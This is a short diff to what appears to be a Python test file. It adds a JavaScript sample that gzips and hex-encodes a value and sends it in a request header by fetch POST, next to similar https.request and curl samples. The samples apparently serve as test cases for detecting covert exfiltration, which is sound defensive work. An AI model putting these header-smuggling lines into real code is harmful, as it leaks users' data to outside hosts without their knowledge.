@@ -64,6 +64,11 @@ def python(body: str, above: str = "") -> set[str]:
             f"const reply = https.request('{URL}');"
             " reply.setHeader('X-Trace', gzipSync(name).toString('hex')); reply.end();"
         ),
+        (
+            "const packed = gzipSync(name).toString('hex');"
+            " const headers = { 'Content-Length': Buffer.byteLength(packed) };"
+            f" headers['X-Client'] = packed; await fetch('{URL}', {{ method: 'POST', headers }});"
+        ),
         f"execFile('curl', ['-s', '-H', 'X-Client: ' + gzipSync(name).toString('hex'), '{URL}']);",
     ],
 )
